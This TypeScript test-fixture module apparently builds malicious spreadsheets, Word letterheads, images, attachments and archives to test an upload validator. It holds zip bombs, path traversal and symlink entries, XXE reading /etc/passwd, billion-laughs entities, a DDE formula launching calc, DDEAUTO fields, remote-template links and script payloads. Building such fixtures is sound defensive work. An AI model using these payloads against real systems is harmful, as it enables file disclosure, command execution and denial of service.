import { crc32 } from 'node:zlib'
import { unzipSync } from 'fflate'
import { bytesOf, plainSheet } from '../kit/roster-workbook.ts'
import { solidPng } from '../kit/pictures.ts'
import { templateDocx } from '../kit/template-docx.ts'
import { hostileZip, type HostileEntry } from './hostile-zip.ts'

export const MEGABYTE = 1024 * 1024
const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'

const entriesOf = (bytes: Uint8Array): HostileEntry[] => Object.entries(unzipSync(bytes)).map(([name, content]) => ({ name, content }))

/** 完好的工作簿与红头：各样坏法都在它们上面动手。 */
const BOOK = entriesOf(bytesOf(plainSheet(['姓名', '公民身份证号', '签到'], [['张三', '350299198001011015', '√']]), 'xlsx'))
const LETTERHEAD = entriesOf(new Uint8Array(await templateDocx()))

/** 换掉或添上几个部件；同名的换掉。 */
function changed(sound: readonly HostileEntry[], ...changes: readonly HostileEntry[]): HostileEntry[] {
  const names = new Set(changes.map(({ name }) => name))
  return [...sound.filter(({ name }) => !names.has(name)), ...changes]
}

const zeros = (size: number) => new Uint8Array(size)
const BOMB = zeros(60 * MEGABYTE)
const PIECE = zeros(15 * MEGABYTE)
const worksheet = (inner: string) =>
  `<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>${inner}</sheetData></worksheet>`
const relationship = (kind: string, target: string) =>
  `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId99" Type="${OFFICE}/${kind}" Target="${target}" TargetMode="External"/></Relationships>`
const LAUGHS =
  '<!DOCTYPE a [<!ENTITY a "哈哈哈哈哈哈哈哈哈哈"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>'
const OUTSIDE = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'

/** 一种文件（工作簿、红头、一包东西）的一种坏法。 */
type Maker = () => Buffer

/** 复合文档（OLE）里放着加密包：Office 加了打开密码的 .xlsx、.docx 都是这个样子。 */
const ENCRYPTED_OFFICE = Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.alloc(2000)])

const truncated = (bytes: Buffer) => bytes.subarray(0, Math.floor(bytes.length * 0.7))

/** 读作表格的入口收到的。 */
export const BOOKS = {
  过大: () => Buffer.concat([hostileZip(BOOK), Buffer.alloc(41 * MEGABYTE)]),
  压缩炸弹: () => hostileZip(changed(BOOK, { name: 'xl/worksheets/sheet1.xml', content: BOMB })),
  合起来才炸: () => hostileZip(changed(BOOK, ...Array.from({ length: 15 }, (_, index) => ({ name: `xl/a${index}.xml`, content: PIECE })))),
  谎报大小: () => hostileZip(changed(BOOK, { name: 'xl/worksheets/sheet1.xml', content: BOMB, declaredSize: 1000 })),
  嵌套压缩: () => hostileZip([{ name: '里.zip', content: hostileZip([{ name: '再里.zip', content: hostileZip(BOOK) }]) }]),
  条目过多: () => hostileZip(changed(BOOK, ...Array.from({ length: 6000 }, (_, index) => ({ name: `x/${index}`, content: '' })))),
  路径穿越: () => hostileZip([{ name: '../../花名册.csv', content: '姓名\n张三' }]),
  绝对路径: () => hostileZip([{ name: 'C:\\Windows\\花名册.csv', content: '姓名\n张三' }]),
  符号链接: () => hostileZip([{ name: '花名册.csv', content: '/etc/passwd', isLink: true }]),
  重名条目: () => hostileZip([...BOOK, { name: 'XL/WORKSHEETS/SHEET1.XML', content: worksheet('') }]),
  实体膨胀: () =>
    hostileZip(changed(BOOK, { name: 'xl/sharedStrings.xml', content: `<?xml version="1.0"?>${LAUGHS}<sst><si><t>&c;</t></si></sst>` })),
  外部实体: () =>
    hostileZip(changed(BOOK, { name: 'xl/workbook.xml', content: `<?xml version="1.0"?>${OUTSIDE}<workbook>&x;</workbook>` })),
  加密件: () => hostileZip(BOOK.map((entry) => ({ ...entry, isEncrypted: true }))),
  截断: () => truncated(hostileZip(BOOK)),
  冒充: () => Buffer.from('<html><script>alert(1)</script><table><tr><td>姓名</td></tr></table></html>'),
  撑爆的格: () =>
    hostileZip(
      changed(BOOK, {
        name: 'xl/worksheets/sheet1.xml',
        content: worksheet(
          '<row><c r="A1"><v>1</v></c></row>' +
            Array.from({ length: 90_000 }, (_, row) => `<row r="${row + 2}"><c r="BXW${row + 2}"><v>1</v></c></row>`).join(''),
        ),
      }),
    ),
  没收住的标记: () => hostileZip(changed(BOOK, { name: 'xl/worksheets/sheet1.xml', content: worksheet('<!--'.repeat(600_000)) })),
} satisfies Record<string, Maker>

/** 登记作导出模板的空表：还要看里面会不会自己取东西、运行东西。 */
export const SHEET_TEMPLATES = {
  外部引用: () =>
    hostileZip(
      changed(
        BOOK,
        { name: 'xl/externalLinks/externalLink1.xml', content: '<externalLink/>' },
        {
          name: 'xl/externalLinks/_rels/externalLink1.xml.rels',
          content: relationship('externalLinkPath', 'file://198.51.100.1/s/a.xlsx'),
        },
      ),
    ),
  外来图片: () =>
    hostileZip(changed(BOOK, { name: 'xl/drawings/_rels/drawing1.xml.rels', content: relationship('image', 'http://198.51.100.1/a.png') })),
  自动取数: () => hostileZip(changed(BOOK, { name: 'xl/connections.xml', content: '<connections/>' })),
  宏: () => hostileZip(changed(BOOK, { name: 'xl/vbaProject.bin', content: '宏' })),
  取数的公式: () =>
    hostileZip(
      changed(BOOK, {
        name: 'xl/worksheets/sheet1.xml',
        content: worksheet(
          '<row r="1"><c r="A1" t="inlineStr"><is><t>姓名</t></is></c><c r="B1" t="inlineStr"><is><t>性别</t></is></c></row><row r="9"><c r="A9"><f>cmd|\'/c calc\'!A0</f><v>0</v></c></row>',
        ),
      }),
    ),
} satisfies Record<string, Maker>

const instruction = (inner: string) => ({
  name: 'word/document.xml',
  content: Buffer.from(LETTERHEAD.find(({ name }) => name === 'word/document.xml')?.content ?? '')
    .toString('utf8')
    .replace('<w:body>', `<w:body><w:p>${inner}</w:p>`),
})

/** 红头模板。 */
export const LETTERHEADS = {
  过大: () => Buffer.concat([hostileZip(LETTERHEAD), Buffer.alloc(6 * MEGABYTE)]),
  压缩炸弹: () => hostileZip(changed(LETTERHEAD, { name: 'word/media/a.xml', content: BOMB })),
  合起来才炸: () =>
    hostileZip(changed(LETTERHEAD, ...Array.from({ length: 15 }, (_, index) => ({ name: `word/media/${index}.png`, content: PIECE })))),
  谎报大小: () => hostileZip(changed(LETTERHEAD, { name: 'word/media/a.xml', content: BOMB, declaredSize: 1000 })),
  嵌套压缩: () => hostileZip([{ name: '里.docx', content: hostileZip(LETTERHEAD) }]),
  条目过多: () => hostileZip(changed(LETTERHEAD, ...Array.from({ length: 600 }, (_, index) => ({ name: `x/${index}`, content: '' })))),
  路径穿越: () => hostileZip(changed(LETTERHEAD, { name: '../../../启动/a.exe', content: 'MZ' })),
  绝对路径: () => hostileZip(changed(LETTERHEAD, { name: '/etc/cron.d/a', content: 'x' })),
  符号链接: () => hostileZip(changed(LETTERHEAD, { name: 'word/media/a.png', content: '/etc/passwd', isLink: true })),
  重名条目: () => hostileZip([...LETTERHEAD, { name: 'WORD/DOCUMENT.XML', content: '<a/>' }]),
  外部引用: () =>
    hostileZip(changed(LETTERHEAD, { name: 'word/_rels/document.xml.rels', content: relationship('image', 'http://198.51.100.1/a.png') })),
  外来图片: () =>
    hostileZip(
      changed(LETTERHEAD, {
        name: 'word/_rels/document.xml.rels',
        content: relationship('image', 'http://198.51.100.1/a.png').replace('External', '&#69;xternal'),
      }),
    ),
  远程模板: () =>
    hostileZip(
      changed(LETTERHEAD, {
        name: 'word/_rels/settings.xml.rels',
        content: relationship('attachedTemplate', 'http://198.51.100.1/a.dotm'),
      }),
    ),
  改名引入的文件: () =>
    hostileZip(
      changed(
        LETTERHEAD,
        { name: 'word/普通.html', content: '<script>1</script>' },
        { name: 'word/_rels/document.xml.rels', content: relationship('aFChunk', '普通.html').replace(' TargetMode="External"', '') },
      ),
    ),
  宏: () => hostileZip(changed(LETTERHEAD, { name: 'word/vbaProject.bin', content: '宏' })),
  自动取数: () =>
    hostileZip(
      changed(
        LETTERHEAD,
        instruction(
          '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>INCL</w:instrText></w:r><w:r><w:instrText>UDETEXT "c:\\\\a"</w:instrText></w:r>',
        ),
      ),
    ),
  取数的公式: () => hostileZip(changed(LETTERHEAD, instruction('<w:fldSimple w:instr=" DDEAUTO c:\\\\cmd "/>'))),
  实体膨胀: () => hostileZip(changed(LETTERHEAD, { name: 'word/document.xml', content: `<?xml version="1.0"?>${LAUGHS}<a>&c;</a>` })),
  外部实体: () => hostileZip(changed(LETTERHEAD, { name: 'word/document.xml', content: `<?xml version="1.0"?>${OUTSIDE}<a>&x;</a>` })),
  换了编码的实体: () =>
    hostileZip(
      changed(LETTERHEAD, {
        name: 'word/styles.xml',
        content: Buffer.from(`<?xml version="1.0" encoding="UTF-16"?>${LAUGHS}<a/>`, 'utf16le'),
      }),
    ),
  加密件: () => ENCRYPTED_OFFICE,
  截断: () => truncated(hostileZip(LETTERHEAD)),
  冒充: () => Buffer.from('<html><script>alert(1)</script></html>'),
} satisfies Record<string, Maker>

export const PNG = Buffer.from(solidPng(64, 48, [180, 20, 30]))

/** 只改 IHDR 的宽高、重算校验：几百字节自称几十亿像素。 */
function hugePng(): Buffer {
  const copy = Buffer.from(PNG)
  copy.writeUInt32BE(60_000, 16)
  copy.writeUInt32BE(60_000, 20)
  copy.writeUInt32BE(crc32(copy.subarray(12, 29)), 29)
  return copy
}
const HUGE = hugePng()
/** 最小的帧头：宽高各六万五。 */
const HUGE_JPEG = Buffer.from('ffd8ffc0000b08ffffffff01011100ffda0008010100003f00d2ffd9', 'hex')

/** 只存不读的附件：名字、内容。 */
export const ATTACHMENTS: Readonly<Record<string, { readonly fileName: string; readonly make: Maker }>> = {
  过大: { fileName: '讲稿.pdf', make: () => Buffer.concat([Buffer.from('%PDF-1.4'), Buffer.alloc(20 * MEGABYTE)]) },
  截断: { fileName: '会场.png', make: () => PNG.subarray(0, PNG.length - 30) },
  坏的: { fileName: '会场.png', make: () => Buffer.concat([PNG.subarray(0, 45), Buffer.from([0xff]), PNG.subarray(46)]) },
  截断的照片: { fileName: '会场.jpg', make: () => HUGE_JPEG.subarray(0, 20) },
  巨大像素: { fileName: '会场.png', make: () => HUGE },
  巨大像素的照片: { fileName: '会场.jpg', make: () => HUGE_JPEG },
  冒充: { fileName: '会场.png', make: () => Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>') },
  网页冒充: { fileName: '会场.jpg', make: () => Buffer.from('<html><script>alert(1)</script></html>') },
  矢量图: { fileName: '会标.svg', make: () => Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>') },
  网页: { fileName: '通知.html', make: () => Buffer.from('<script>alert(1)</script>') },
  程序: { fileName: '批复.pdf', make: () => Buffer.from('MZ\u0090\0\u0003', 'latin1') },
  宏: { fileName: '讲稿.docm', make: () => hostileZip(LETTERHEAD) },
  压缩包: { fileName: '照片.zip', make: () => hostileZip(BOOK) },
}

/** 要加口令的一包导出件。 */
export const BUNDLES = {
  合起来才炸: () => hostileZip(Array.from({ length: 50 }, (_, index) => ({ name: `${index}.docx`, content: PIECE }))),
  谎报大小: () => hostileZip([{ name: 'a.docx', content: BOMB, declaredSize: 1000 }]),
  路径穿越: () => hostileZip([{ name: '../../a.docx', content: 'x' }]),
  绝对路径: () => hostileZip([{ name: '/etc/a', content: 'x' }]),
  符号链接: () => hostileZip([{ name: 'a.docx', content: '/etc/passwd', isLink: true }]),
  重名条目: () =>
    hostileZip([
      { name: 'a.docx', content: 'x' },
      { name: 'A.docx', content: 'y' },
    ]),
  加密件: () => hostileZip([{ name: 'a.docx', content: 'x', isEncrypted: true }]),
  条目过多: () => hostileZip(Array.from({ length: 60_001 }, (_, index) => ({ name: String(index), content: '' }))),
  截断: () => truncated(hostileZip(BOOK)),
} satisfies Record<string, Maker>

/** 文件名本身有害：太长、控制字符、路径、从右往左的字。 */
export const NAMES = {
  超长文件名: `${'长'.repeat(300)}.png`,
  控制字符文件名: '会\u0000场\u001b[31m.png',
  路径文件名: '..\\..\\启动\\会场.png',
  倒写文件名: '会场\u202egnp.exe.png',
} as const
